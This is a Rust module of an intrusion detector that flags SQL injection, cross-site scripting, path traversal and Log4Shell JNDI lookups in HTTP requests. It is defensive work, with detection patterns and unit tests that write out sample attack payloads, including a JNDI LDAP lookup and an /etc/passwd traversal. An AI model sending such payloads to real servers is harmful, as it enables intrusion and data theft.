//! Attacks in web requests, read from the request a client sends, in the spirit of Zeek's
//! `detect-sqli` and nDPI's URL risks: SQL injection, cross-site scripting and path traversal
//! in the request target (percent-decoded, twice for double encoding, `+` as a space,
//! lower-cased), and Log4Shell's JNDI lookups anywhere in the request's first segment.
//!
//! Each rule wants the structure of an attack, not a word: SQL after a quote that closes a
//! value (a tautology such as `' or '1'='1`, a `union select`, a comment that ends the query),
//! markup that runs script, two levels of `../` (a browser resolves dot segments before it
//! sends a request) or a system file's path, and a JNDI URL. One request is evidence enough,
//! as for Suricata's rules; the source's window counts them.

use super::find;

/// What a request tried (the first rule that matched).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[repr(u8)]
pub enum WebAttack {
    #[default]
    None = 0,
    SqlInjection,
    Xss,
    PathTraversal,
    Log4Shell,
}

impl WebAttack {
    /// The counter an alert names.
    pub const fn counter(self) -> &'static str {
        match self {
            WebAttack::None => "http_attacks",
            WebAttack::SqlInjection => "http_sql_injections",
            WebAttack::Xss => "http_xss_attempts",
            WebAttack::PathTraversal => "http_path_traversals",
            WebAttack::Log4Shell => "http_log4shell_lookups",
        }
    }
}

/// The longest request target read.
const TARGET_MAX: usize = 1024;

/// Percent-decode `src` into `out` (`+` as a space, lower-cased); its length.
fn decode(src: &[u8], out: &mut [u8]) -> usize {
    let hex = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    let (mut i, mut n) = (0, 0);
    while i < src.len() && n < out.len() {
        let b = match src[i] {
            b'%' => {
                match (src.get(i + 1).and_then(|&b| hex(b)), src.get(i + 2).and_then(|&b| hex(b))) {
                    (Some(h), Some(l)) => {
                        i += 2;
                        h << 4 | l
                    }
                    _ => b'%',
                }
            }
            b'+' => b' ',
            b => b,
        };
        out[n] = b.to_ascii_lowercase();
        n += 1;
        i += 1;
    }
    n
}

fn any(hay: &[u8], needles: &[&[u8]]) -> bool {
    needles.iter().any(|n| find(hay, n).is_some())
}

/// As [`any`], where a needle that begins with a letter begins a word (after no letter or
/// digit): `onerror=` is an event handler, `refreshedOnError=` a parameter.
fn any_word(hay: &[u8], needles: &[&[u8]]) -> bool {
    needles.iter().any(|n| {
        let mut at = 0;
        while let Some(p) = find(&hay[at..], n) {
            let starts_word = n.first().is_some_and(u8::is_ascii_alphanumeric);
            if !starts_word || at + p == 0 || !hay[at + p - 1].is_ascii_alphanumeric() {
                return true;
            }
            at += p + 1;
        }
        false
    })
}

/// Skip spaces, tabs and SQL comments (`/*...*/`).
fn skip_blank(s: &[u8]) -> &[u8] {
    let mut s = s;
    loop {
        match s {
            [b' ' | b'\t' | b'\r' | b'\n', rest @ ..] => s = rest,
            [b'/', b'*', rest @ ..] => {
                s = find(rest, b"*/").map_or(&[][..], |e| &rest[e + 2..]);
            }
            _ => return s,
        }
    }
}

/// A quote that closes a value (after at most a short token: `id=1'`, `id=%'`, `id='`), then
/// SQL: a tautology, a statement, or a comment that ends the query.
fn sql_after_quote(q: &[u8]) -> bool {
    let mut at = 0;
    while let Some(p) = q[at..].iter().position(|&b| b == b'\'' || b == b'"') {
        let quote = at + p;
        at = quote + 1;
        let value = q[..quote].iter().rposition(|&b| b == b'=').map(|e| &q[e + 1..quote]);
        let token = |v: &[u8]| {
            v.len() <= 32 && v.iter().all(|b| b.is_ascii_alphanumeric() || b"%-_.".contains(b))
        };
        if !value.is_some_and(token) {
            continue;
        }
        let rest = skip_blank(&q[quote + 1..]);
        let rest = skip_blank(rest.strip_prefix(b")").unwrap_or(rest));
        let word = |w: &[u8]| {
            rest.strip_prefix(w)
                .filter(|r| matches!(r.first(), Some(b' ' | b'(' | b'\'' | b'"' | b'/')))
        };
        if let Some(r) = word(b"or").or_else(|| word(b"and")) {
            // A comparison after it: `' or '1'='1`, `' and 1=1`, `' or x like x`.
            let near = &r[..r.len().min(24)];
            if near.iter().any(|b| matches!(b, b'=' | b'<' | b'>')) || find(near, b"like").is_some()
            {
                return true;
            }
        }
        if [&b"union"[..], b"select", b"having", b"order", b"insert", b"delete", b"drop", b"exec"]
            .iter()
            .any(|w| word(w).is_some())
        {
            return true;
        }
        // The rest of the query commented out: `1'--`, `1' #`, `1';`.
        if rest.starts_with(b"--") || rest.starts_with(b"#") || rest.starts_with(b";") {
            return true;
        }
    }
    false
}

fn sql_injection(q: &[u8]) -> bool {
    if let Some(u) = find(q, b"union") {
        let rest = skip_blank(&q[u + 5..]);
        let rest = rest.strip_prefix(b"all").map_or(rest, skip_blank);
        if rest.len() < q.len() - u - 5 && rest.starts_with(b"select") {
            return true;
        }
    }
    sql_after_quote(q)
        || any(
            q,
            &[b"information_schema", b"sleep(", b"benchmark(", b"waitfor delay", b"@@version"],
        )
}

/// What `segment` (a client's segment that begins with a request method) tries, if anything.
pub fn classify(segment: &[u8]) -> WebAttack {
    let (target, _) = super::request_target(segment);
    let target = &target[..target.len().min(TARGET_MAX)];
    let (mut once, mut twice) = ([0u8; TARGET_MAX], [0u8; TARGET_MAX]);
    let n = decode(target, &mut once);
    let n = decode(&once[..n], &mut twice);
    let t = &twice[..n];
    let query = find(t, b"?").map_or(&[][..], |q| &t[q + 1..]);
    if jndi(segment) || jndi(t) {
        WebAttack::Log4Shell
    } else if sql_injection(query) {
        WebAttack::SqlInjection
    } else if any_word(
        t,
        &[
            b"<script",
            b"javascript:",
            b"onerror=",
            b"onload=",
            b"<iframe",
            b"<svg",
            b"document.cookie",
        ],
    ) {
        WebAttack::Xss
    } else if any(
        t,
        &[b"../../", b"..\\..\\", b"/etc/passwd", b"/etc/shadow", b"win.ini", b"boot.ini"],
    ) {
        WebAttack::PathTraversal
    } else {
        WebAttack::None
    }
}

/// A JNDI lookup URL (`${jndi:ldap://...}`, or as a bare value), case aside.
fn jndi(s: &[u8]) -> bool {
    let mut at = 0;
    while let Some(p) = super::find_ci(&s[at..], b"jndi:") {
        let rest = &s[at + p + 5..];
        let scheme = |w: &[u8]| rest.len() >= w.len() && rest[..w.len()].eq_ignore_ascii_case(w);
        if [&b"ldap"[..], b"rmi:", b"dns:", b"iiop:", b"corba:", b"nds:", b"nis:"]
            .iter()
            .any(|w| scheme(w))
        {
            return true;
        }
        at += p + 5;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get(target: &str) -> WebAttack {
        let mut req = heapless::Vec::<u8, 2048>::new();
        let _ = req.extend_from_slice(b"GET ");
        let _ = req.extend_from_slice(target.as_bytes());
        let _ = req.extend_from_slice(b" HTTP/1.1\r\nHost: x\r\n\r\n");
        classify(&req)
    }

    #[test]
    fn test_attacks_of_public_captures() {
        // DVWA's, as in chrissanders' and nDPI's captures.
        assert_eq!(
            get("/sqli/?id=%25%27+or+%270%27%3D%270&Submit=Submit"),
            WebAttack::SqlInjection
        );
        assert_eq!(get("/sqli/?id=1%27+and+1%3D1%23&Submit=Submit"), WebAttack::SqlInjection);
        assert_eq!(get("/sqli/?id=a%27+UNION+SELECT+%22t%22%3B--+-"), WebAttack::SqlInjection);
        assert_eq!(get("/sqli/?id=1%27%23"), WebAttack::SqlInjection);
        assert_eq!(get("/x?id=1/**/union/**/all/**/select/**/1"), WebAttack::SqlInjection);
        assert_eq!(get("/xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E"), WebAttack::Xss);
        assert_eq!(get("/fi/?page=../../../../../../etc/passwd"), WebAttack::PathTraversal);
        assert_eq!(
            get("/fi/?page=%252e%252e%252f%252e%252e%252fboot.ini"),
            WebAttack::PathTraversal
        );
        let log4j = b"POST /login HTTP/1.1\r\nUser-Agent: ${jndi:ldap://10.0.0.1:1389/a}\r\n\r\n";
        assert_eq!(classify(log4j), WebAttack::Log4Shell);
        assert_eq!(
            classify(b"GET /?x=%24%7BJNDI%3Armi%3A%2F%2Fa%7D HTTP/1.1\r\n"),
            WebAttack::Log4Shell
        );
    }

    #[test]
    fn test_plain_requests_are_nothing() {
        for t in [
            "/",
            "/search?q=rock+%27n%27+roll+or+blues",
            "/search?q=it%27s+or+isn%27t",
            "/search?q=union+station+select+trains",
            "/search?q=say+%22hello%22+or+goodbye%3D1",
            "/a/b/../c.html",
            "/api/v1/items?order=asc&select=name",
            "/wiki/O%27Brien",
            "/msglist.adp?refreshedOnError=2",
            "/q?name=Tom%27s+and+Jerry",
            "/p?title=Don%27t+Stop",
            "%",
            "/%",
            "/%4",
        ] {
            assert_eq!(get(t), WebAttack::None, "{t}");
        }
        assert_eq!(classify(b""), WebAttack::None);
        assert_eq!(classify(b"GET"), WebAttack::None);
    }
}
